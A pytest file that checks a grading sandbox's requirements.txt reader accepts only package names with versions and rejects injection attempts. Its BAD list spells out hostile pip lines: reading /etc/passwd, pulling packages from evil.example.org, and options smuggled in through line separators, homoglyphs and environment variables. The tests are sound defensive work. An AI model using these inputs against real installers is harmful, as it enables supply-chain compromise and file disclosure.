"""Requirements name packages and versions. Nothing in them steers the installer."""

import sys
from pathlib import Path

import pytest

from grader.assignment import assignment_of
from grader.assignment.requirements import read_requirements
from grader.errors import AssignmentError
from sandboxes.errors import ImageBuildFailed
from sandboxes.images import packages
from sandboxes.images.packages import install_packages, requirements_of

PATH = Path("a/requirements.txt")
GOOD = """
# what the tests need
numpy>=2.1,<3
Pandas[excel] ~= 2.2 ; python_version >= "3.11"   # and a comment
six
"""
BAD = [
    "-r /etc/passwd",
    "--requirement=/etc/passwd",
    "-e .",
    "--index-url https://evil.example.org/simple",
    "--find-links /tmp",
    "-c constraints.txt",
    "six --hash=sha256:00",
    "six --config-settings=x=y",
    "six @ https://evil.example.org/six.whl",
    "six @ file:///etc/passwd",
    "https://evil.example.org/six.whl",
    "file:///etc/passwd",
    "git+https://evil.example.org/six",
    "./six",
    "/etc/passwd",
    "..",
    "$HOME",
    "${PIP_CERT}",
    "six; python_version > '${HOME}'",
    "six \\\n--index-url https://evil.example.org/simple",
    "six six",
    "\u0455ix",
    "six\u2028-r /etc/passwd",
    "six\x0b-r /etc/passwd",
    "six\0",
]


def test_names_with_versions_extras_and_markers_are_kept():
    assert read_requirements(GOOD, PATH).splitlines() == [
        "numpy<3,>=2.1",
        'Pandas[excel]~=2.2; python_version >= "3.11"',
        "six",
    ]
    assert requirements_of(read_requirements(GOOD, PATH)) == read_requirements(GOOD, PATH).splitlines()


@pytest.mark.parametrize("line", [*BAD, "six>=1" + ",>=1" * 200])
def test_everything_else_is_an_error_that_names_file_line_and_the_way_out(line):
    with pytest.raises(AssignmentError, match=r"^a/requirements.txt:[34]: .*such as 'numpy>=2.1,<3'") as caught:
        read_requirements(f"six\n\n{line}\n", PATH)
    assert "root:" not in str(caught.value)
    assert str(caught.value).isascii()


@pytest.mark.parametrize("line", BAD)
def test_the_installer_is_fed_none_of_it_whoever_passes_it_on(line):
    with pytest.raises(ImageBuildFailed, match="is no package with its versions"):
        requirements_of(line)


@pytest.mark.parametrize("name", ["requirements.txt", "tests/requirements.txt"])
def test_an_assignment_with_such_a_file_is_not_loaded(name):
    folder = Path(__file__).parents[2] / "assignments" / "roman-numerals"
    files = {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    assert assignment_of({**files, name: b"six>=1\n"}, folder)
    with pytest.raises(AssignmentError, match=f"{name}:1: '-r /etc/passwd' is an option"):
        assignment_of({**files, name: b"-r /etc/passwd\n"}, folder)


@pytest.mark.parametrize(
    ("name", "content"),
    [("assignment.toml", b"a = " + b"[" * 100_000), ("tests/hidden/test_deep.py", b"x = " + b"-" * 200_000 + b"1")],
)
def test_an_assignment_that_is_nested_without_end_is_not_loaded(name, content):
    folder = Path(__file__).parents[2] / "assignments" / "roman-numerals"
    files = {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    with pytest.raises(AssignmentError, match=name):
        assignment_of({**files, name: content}, folder)


def test_neither_modules_nor_archives_of_the_working_directory_are_taken(tmp_path, monkeypatch):
    (tmp_path / "pip").mkdir()
    (tmp_path / "pip" / "__init__.py").write_text("")
    (tmp_path / "pip" / "__main__.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')")
    (tmp_path / "evil.zip").write_bytes(b"PK")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    with pytest.raises(ImageBuildFailed) as caught:
        install_packages(tmp_path / "target", requirements_of("evil.zip"), "3.11", ["manylinux2014_x86_64"])
    assert not (tmp_path / "ran").exists()
    assert "evil.zip" in str(caught.value)
    assert not (tmp_path / "target").exists()


def test_no_requirement_is_an_option_of_the_installer(tmp_path, monkeypatch):
    seen = []
    monkeypatch.setattr(packages.subprocess, "run", lambda command, **_more: seen.append(command) or _Done())
    install_packages(tmp_path, ["six"], "3.11", [])
    assert seen[0][-2:] == ["--", "six"]
    assert seen[0][:4] == [sys.executable, "-P", "-m", "pip"]
    assert "--requirement" not in seen[0]


class _Done:
    returncode = 0
